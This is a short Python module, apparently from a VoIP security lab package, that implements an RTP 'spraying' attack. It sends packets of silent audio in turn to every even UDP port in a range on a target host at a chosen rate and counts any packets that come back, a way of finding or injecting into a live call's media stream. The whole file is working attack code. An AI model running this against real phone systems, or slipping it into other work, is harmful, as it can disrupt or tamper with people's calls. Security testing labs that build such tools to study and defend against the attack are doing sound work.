"""`python -m lab.attacks.spraying HOST FIRST LAST RATE ADDRESS`: audio to every port where a call's audio may be.

RATE: packets a second, to one port after the other, from a socket of ADDRESS.
"""

import itertools
import socket
import sys
import time

from lab.attacks.program import LONGEST, over, say
from lab.phone.packet import Packet

TURN = 0.01
"""Seconds of packets that are sent at a time."""


def spray(host: str, first: int, last: int, rate: int, address: str) -> None:
    ports = itertools.cycle(range(first, last + 1, 2))
    sent = got = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as plain:
        plain.bind((address, 0))
        begun = time.monotonic()
        say("begun")
        while not over() and time.monotonic() < begun + LONGEST:
            for _ in range(round(rate * TURN)):
                around = sent // len(range(first, last + 1, 2))
                plain.sendto(Packet(0, around, 160 * around, 1, bytes(160)).encode(), (host, next(ports)))
                sent += 1
            got += _arrived(plain)
            time.sleep(max(0.0, begun + sent / rate - time.monotonic()))
    say(f"{sent:,} packets; {got:,} came back")


def _arrived(plain: socket.socket) -> int:
    got = 0
    while True:
        try:
            plain.recv(2_048, socket.MSG_DONTWAIT)
        except BlockingIOError:
            return got
        got += 1


if __name__ == "__main__":
    host, first, last, rate, address = sys.argv[1:]
    spray(host, int(first), int(last), int(rate), address)
